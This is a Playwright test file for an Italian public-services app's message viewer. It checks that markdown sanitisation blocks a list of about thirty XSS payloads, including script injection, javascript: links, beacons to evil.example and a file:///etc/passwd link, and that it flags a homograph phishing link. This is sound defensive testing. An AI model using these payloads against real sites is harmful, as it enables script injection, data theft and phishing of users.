// A list of attacks by a message's text: nothing runs, nothing is asked of another site, nothing is hidden.
import assert from 'node:assert/strict';
import { after, before, suite, test } from 'node:test';
import type { Browser } from 'playwright-core';
import {
  eventually,
  makeCitizen,
  makeService,
  startTestPlatform,
  type TestPlatform,
} from '../../platform/test/builders.ts';
import { assertSound, send, skip, startBrowser, visit } from './browser.ts';

const RUNNING = [
  '<script>window.hit=1</script>',
  '<img src="https://evil.example/p.gif" onerror="window.hit=1">',
  '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
  '<math><mi xlink:href="javascript:window.hit=1">x</mi></math>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="javascript:window.hit=1"></object><embed src="//evil.example/x">',
  '<form action="https://evil.example"><input name="q"><button>Invia</button></form>',
  '<style>body{background:url(https://evil.example/s)}</style><link rel="stylesheet" href="https://evil.example/c">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<a href="javascript:window.hit=1" style="position:fixed;inset:0">tutto</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  '<details open ontoggle="window.hit=1">x</details>',
  '<p id="app" class="menu" name="body">nomi</p>',
  '<template><script>window.hit=1</script></template>',
  '<scr<script>ipt>window.hit=1</scr</script>ipt>',
  '[uno](javascript:window.hit=1)',
  '[due](JaVaScRiPt:window.hit=1)',
  '[tre](java\tscript:window.hit=1)',
  '[quattro](&#106;avascript:window.hit=1)',
  '[cinque](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)',
  '[sei](vbscript:msgbox(1))',
  '[sette](file:///etc/passwd)',
  '![spia](https://evil.example/pixel.gif?who=anna)',
  '![x](x"onerror="window.hit=1)',
  '[otto][r]\n\n[r]: javascript:window.hit=1',
  '<javascript:window.hit=1>',
  '`<img src=x onerror=window.hit=1>`',
  '<!--><img src=x onerror=window.hit=1>-->',
  '<![CDATA[<img src=x onerror=window.hit=1>]]>',
];

suite('A list of attacks by a message’s text', () => {
  let io: TestPlatform;
  let browser: Browser;
  before(async () => {
    if (skip !== false) return;
    [io, browser] = await Promise.all([startTestPlatform(), startBrowser()]);
  });
  after(async () => {
    await io?.close();
  });

  async function openMessage(markdown: string) {
    const [service, citizen] = await Promise.all([
      makeService(io),
      makeCitizen(io, { client: 'web' }),
    ]);
    const here = await visit(browser, io);
    await here.enterAs(citizen);
    const id = await send(io, service, citizen, { subject: 'Un messaggio strano', markdown });
    await eventually('the message is there', async () => {
      const url = `/app/api/v1/messages/${id}`;
      return (await io.app.inject({ url, headers: citizen.headers })).statusCode === 200;
    });
    const asked: string[] = [];
    here.page.on('request', (request) => asked.push(request.url()));
    await here.page.goto(`/messaggi/${id}`);
    const text = here.page.getByRole('region', { name: 'Testo del messaggio' });
    await text.getByText('Fine del testo').waitFor();
    return { here, page: here.page, text, asked };
  }

  test('nothing of it runs, asks another site or breaks out of the text', { skip }, async () => {
    const { here, page, text, asked } = await openMessage(
      `${RUNNING.join('\n\n')}\n\nFine del testo`,
    );
    assert.equal(await page.evaluate('window.hit'), undefined);
    const tags = await text.evaluate((region) => [
      ...new Set([...region.querySelectorAll('*')].map((one) => one.tagName.toLowerCase())),
    ]);
    const harmless = ['p', 'br', 'a', 'span', 'code', 'em', 'strong', 'pre'];
    assert.deepEqual(
      tags.filter((tag) => !harmless.includes(tag)),
      [],
    );
    const attributes = await text.evaluate((region) => [
      ...new Set([...region.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())),
    ]);
    assert.deepEqual(
      attributes.filter((name) => !['href', 'target', 'rel', 'class'].includes(name)),
      [],
    );
    const addresses = await text
      .locator('a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
    assert.deepEqual(
      addresses.filter((address) => !/^(?:https?|mailto|tel):/.test(address)),
      [],
    );
    assert.deepEqual(
      asked.filter((url) => url.includes('evil.example')),
      [],
    );
    assert.deepEqual(here.faults, []);
    await here.close();
  });

  test('a link says where it leads, and what pretends is warned of', { skip }, async () => {
    const { here, page, text } = await openMessage(
      'Vedi [il sito](https://comune.example/pagina?utm_source=io) e [www.comune.torino.it](https://evil.example/x), ' +
        'poi [paga](https://pоste.it/) o https://comune.example/chiaro e [scrivici](mailto:a@comune.example).\n\nFine del testo',
    );
    const links = text.getByRole('link');
    const first = links.first();
    assert.match(await first.innerText(), /il sito \(comune\.example\)/);
    assert.equal(await first.getAttribute('href'), 'https://comune.example/pagina?utm_source=io');
    assert.equal(await first.getAttribute('rel'), 'noopener noreferrer');
    assert.deepEqual(
      (await text.locator('.link-careful').allInnerTexts()).map((one) => one.trim()),
      [
        'Attenzione: questo link porta a evil.example',
        'Attenzione: questo link porta a xn--pste-55d.it',
      ],
    );
    await page.getByText('scrivici').waitFor();
    await assertSound(here, 'links');
    await here.close();
  });

  test(
    'a wide table scrolls in its own frame, and its headers head their columns',
    { skip },
    async () => {
      const wide = 'Parola'.repeat(6);
      const { here, text } = await openMessage(
        `| Anno | ${wide} | ${wide} | Importo |\n|---|:--|--:|---|\n| 2026 | ${wide} | ${wide} | 120,50 € |\n\nFine del testo`,
      );
      const frame = text.locator('.prose-table');
      assert.ok(
        await frame.evaluate((one) => one.scrollWidth > one.clientWidth && one.tabIndex === 0),
      );
      assert.equal(await text.getByRole('columnheader').count(), 4);
      assert.deepEqual(
        await text.locator('th').evaluateAll((all) => all.map((one) => one.getAttribute('scope'))),
        ['col', 'col', 'col', 'col'],
      );
      await assertSound(here, 'a table');
      await here.close();
    },
  );

  test(
    'buttons lead to pages of the app and to named sites; broken ones are never seen',
    { skip },
    async () => {
      const { here, page } = await openMessage(
        '---\nit:\n  cta_1:\n    text: Vedi i servizi\n    action: ioit://SERVICES_HOME\n  cta_2:\n    text: Vai allo sportello\n    action: iohandledlink://https://comune.example/s\n---\nCiao, questo è il testo del messaggio, abbastanza lungo.\n\nFine del testo',
      );
      await page.getByText('porta a comune.example').waitFor();
      await assertSound(here, 'buttons');
      await page.getByRole('link', { name: 'Vedi i servizi' }).click();
      await page.getByRole('heading', { level: 1, name: 'Servizi' }).waitFor();
      await here.close();
      const broken = await openMessage(
        '---\nit:\n  cta_1:\n    text: "Rotto\n    action: [ioit://main\n\nCiao, questo è il testo del messaggio, abbastanza lungo.\n\nFine del testo',
      );
      assert.doesNotMatch(await broken.page.locator('article').innerText(), /cta_1|Rotto|ioit/);
      await broken.here.close();
    },
  );
});
